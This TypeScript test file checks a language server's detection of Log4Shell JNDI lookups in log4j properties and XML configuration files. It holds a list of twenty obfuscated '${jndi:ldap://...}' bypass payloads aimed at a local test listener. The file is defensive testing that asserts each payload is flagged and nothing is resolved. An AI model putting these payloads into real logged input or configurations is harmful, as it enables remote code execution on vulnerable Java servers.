// Hostile configuration content through the REAL language server process (dist/server.js --stdio):
// Log4Shell lookups and their obfuscated forms in log4j.properties, log4j2.xml and log4j2.properties
// values, XML attribute values and XML text. Each JNDI form is flagged `jndi-lookup` on its line,
// plain `${env:..}` / `${sys:..}` are not, hover / completion / code actions on those lines still
// answer, and nothing is resolved: a 127.0.0.1 LDAP-ish listener on the port every payload names
// never sees a connection.
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import * as net from 'node:net';
import type { AddressInfo } from 'node:net';
import type { Diagnostic, DocumentDiagnosticReport } from 'vscode-languageserver-protocol';
import { startTestServer, type TestServer } from '../lsp/harness';

let server: TestServer;
let listener: net.Server;
let port = 0;
const connections: string[] = [];

/** Lookups that log4j 2 would resolve to a JNDI lookup (the obfuscations of the public bypass lists). `H` = host:port. */
function jndiPayloads(H: string): string[] {
  return [
    `\${jndi:ldap://${H}/a}`,
    `\${jndi:rmi://${H}/a}`,
    `\${jndi:dns://${H}/a}`,
    `\${JnDi:LdAp://${H}/a}`,
    `\${ jndi:ldap://${H}/a}`,
    `\${\${lower:j}ndi:ldap://${H}/a}`,
    `\${\${lower:j}\${lower:n}\${lower:d}\${lower:i}:ldap://${H}/a}`,
    `\${\${upper:j}\${upper:n}\${upper:d}\${upper:i}:ldap://${H}/a}`,
    `\${\${::-j}\${::-n}\${::-d}\${::-i}:ldap://${H}/a}`,
    `\${\${::-j}ndi:rmi://${H}/a}`,
    `\${jndi:\${lower:l}\${lower:d}a\${lower:p}://${H}/a}`,
    `\${\${env:NaN:-j}ndi\${env:NaN:-:}\${env:NaN:-l}dap\${env:NaN:-:}//${H}/a}`,
    `\${\${env:ENV_NAME:-j}ndi\${env:ENV_NAME:-:}\${env:ENV_NAME:-l}dap\${env:ENV_NAME:-:}//${H}/a}`,
    `\${\${sys:x:-j}\${sys:x:-n}\${sys:x:-d}\${sys:x:-i}:ldap://${H}/a}`,
    `\${\${date:'j'}\${date:'n'}\${date:'d'}\${date:'i'}:ldap://${H}/a}`,
    `\${j\${k8s:k5:-ND}i\${sd:k5:-:}ldap://${H}/a}`,
    `\${\${main:\\k5:-Jnd}\${main:\\k5:-i:}ldap://${H}/a}`,
    `\${\${upper:\${lower:j}}ndi:ldap://${H}/a}`,
    `\${\${lower:\${lower:jndi}}:ldap://${H}/a}`,
    `\${\${lower:jnd}\${upper:i}:ldap://${H}/a}`,
  ];
}
/** Ordinary substitutions a configuration may well use: never flagged as jndi-lookup. */
const PLAIN = ['${env:HOME}', '${sys:catalina.home}', '${env:LOG_DIR:-/var/log}', '${sys:user.dir}/logs', '${ctx:user}', '${date:yyyy-MM-dd}'];

interface Doc {
  name: string;
  uri: string;
  languageId: string;
  /** One line per payload; `[line, payload, jndi]`. */
  build(payloads: string[]): { text: string; lines: [number, string][] };
}

function xmlAttr(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
}

const DOCS: Doc[] = [
  {
    name: 'log4j.properties (appender File and ConversionPattern values)',
    uri: 'file:///hostile/WEB-INF/classes/log4j.properties',
    languageId: 'properties',
    build(payloads) {
      const out = ['log4j.rootLogger=WARN, filelog', 'log4j.appender.filelog=org.apache.log4j.RollingFileAppender', 'log4j.appender.filelog.layout=org.apache.log4j.PatternLayout'];
      const lines: [number, string][] = [];
      payloads.forEach((p, i) => {
        lines.push([out.length, p]);
        out.push(i % 2 ? `log4j.appender.filelog.layout.ConversionPattern=%d %m ${p}%n` : `log4j.appender.f${i}.File=${p}`);
      });
      return { text: out.join('\n') + '\n', lines };
    },
  },
  {
    name: 'log4j2.xml (attribute values and element text)',
    uri: 'file:///hostile/WEB-INF/classes/log4j2.xml',
    languageId: 'xml',
    build(payloads) {
      const out = ['<?xml version="1.0" encoding="UTF-8"?>', '<Configuration status="warn">', '  <Properties>'];
      const lines: [number, string][] = [];
      const loggers: string[] = [];
      payloads.forEach((p, i) => {
        if (i % 3 === 0) {
          lines.push([out.length, p]);
          out.push(`    <Property name="p${i}">${xmlAttr(p)}</Property>`);
        } else loggers.push(p);
      });
      out.push('  </Properties>', '  <Appenders>');
      loggers.forEach((p, i) => {
        if (i % 2 === 0) {
          lines.push([out.length, p]);
          out.push(`    <File name="f${i}" fileName="${xmlAttr(p)}"><PatternLayout pattern="%m%n"/></File>`);
        } else {
          out.push(`    <File name="f${i}" fileName="logs/f${i}.log">`);
          lines.push([out.length, p]);
          out.push(`      <PatternLayout><Pattern>%d %m ${xmlAttr(p)}%n</Pattern></PatternLayout>`, '    </File>');
        }
      });
      out.push('  </Appenders>', '  <Loggers>', '    <Root level="warn"><AppenderRef ref="f0"/></Root>', '  </Loggers>', '</Configuration>');
      return { text: out.join('\n') + '\n', lines };
    },
  },
  {
    name: 'log4j2.properties (property and appender values)',
    uri: 'file:///hostile/log4j2.properties',
    languageId: 'properties',
    build(payloads) {
      const out = ['status = warn', 'appender.f.type = File', 'appender.f.name = f', 'appender.f.fileName = logs/app.log', 'appender.f.layout.type = PatternLayout', 'rootLogger.level = warn', 'rootLogger.appenderRef.f.ref = f'];
      const lines: [number, string][] = [];
      payloads.forEach((p, i) => {
        lines.push([out.length, p]);
        out.push(i % 2 ? `property.p${i} = ${p}` : `appender.f.layout.pattern = %d ${p} %m%n`);
      });
      return { text: out.join('\n') + '\n', lines };
    },
  },
];

before(async () => {
  listener = net.createServer((s) => {
    connections.push(`${s.remoteAddress}:${s.remotePort}`);
    s.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as AddressInfo).port;
  server = await startTestServer();
});
after(async () => {
  await server?.stop();
  await new Promise<void>((resolve) => listener.close(() => resolve()));
});

async function diagnostics(uri: string): Promise<Diagnostic[]> {
  const r = (await server.connection.sendRequest('textDocument/diagnostic', { textDocument: { uri } })) as DocumentDiagnosticReport;
  assert.equal(r.kind, 'full');
  return r.kind === 'full' ? r.items : [];
}

describe('hostile configuration: Log4Shell lookups through the real language server', () => {
  let tried = 0;
  for (const doc of DOCS) {
    test(`${doc.name}: every JNDI form flagged, plain lookups not, requests on those lines answer`, async () => {
      const H = `127.0.0.1:${port}`;
      const jndi = jndiPayloads(H);
      const { text, lines } = doc.build([...jndi, ...PLAIN]);
      const textLines = text.split('\n');
      await server.connection.sendNotification('textDocument/didOpen', { textDocument: { uri: doc.uri, languageId: doc.languageId, version: 1, text } });
      const items = await diagnostics(doc.uri);
      const flagged = new Set(items.filter((d) => d.code === 'jndi-lookup').map((d) => d.range.start.line));
      const missed: string[] = [];
      const wrong: string[] = [];
      for (const [line, p] of lines) {
        const isJndi = jndi.includes(p);
        if (isJndi && !flagged.has(line)) missed.push(`line ${line + 1}: ${textLines[line]}`);
        if (!isJndi && flagged.has(line)) wrong.push(`line ${line + 1}: ${textLines[line]}`);
      }
      assert.deepEqual(missed, [], 'JNDI lookups not flagged');
      assert.deepEqual(wrong, [], 'ordinary lookups flagged as JNDI');
      for (const d of items.filter((x) => x.code === 'jndi-lookup')) {
        // The finding's range lies on the lookup's line and covers a `${`.
        const l = textLines[d.range.start.line]!;
        assert.ok(l.slice(d.range.start.character, d.range.end.character).includes('${'), `range ${JSON.stringify(d.range)} on ${l}`);
      }
      // Hover, completion and code actions on every payload line still answer (null or a value, never an error).
      for (const [line, p] of lines) {
        const l = textLines[line]!;
        const character = Math.max(0, l.indexOf('${') + 3);
        const position = { line, character };
        await server.connection.sendRequest('textDocument/hover', { textDocument: { uri: doc.uri }, position });
        await server.connection.sendRequest('textDocument/completion', { textDocument: { uri: doc.uri }, position });
        const range = { start: { line, character: 0 }, end: { line, character: l.length } };
        const onLine = items.filter((d) => d.range.start.line === line);
        const actions = await server.connection.sendRequest('textDocument/codeAction', { textDocument: { uri: doc.uri }, range, context: { diagnostics: onLine } });
        assert.ok(Array.isArray(actions) || actions === null, `code actions on line ${line + 1} (${p})`);
      }
      tried += lines.length;
      await server.connection.sendNotification('textDocument/didClose', { textDocument: { uri: doc.uri } });
    });
  }

  test('nothing was resolved: the listener the payloads name saw no connection, the server is alive', async () => {
    // One more round trip: every earlier message has been handled by now.
    await server.connection.sendRequest('textDocument/hover', { textDocument: { uri: DOCS[0]!.uri }, position: { line: 0, character: 0 } });
    assert.equal(server.process.exitCode, null);
    assert.deepEqual(connections, []);
    assert.ok(!server.stderr.join('').match(/\n\s+at .+\(.*:\d+:\d+\)/), `no stack trace on stderr: ${server.stderr.join('')}`);
    console.log(`# hostile config lookups tried: ${tried} in ${DOCS.length} files (listener on 127.0.0.1:${port})`);
  });
});
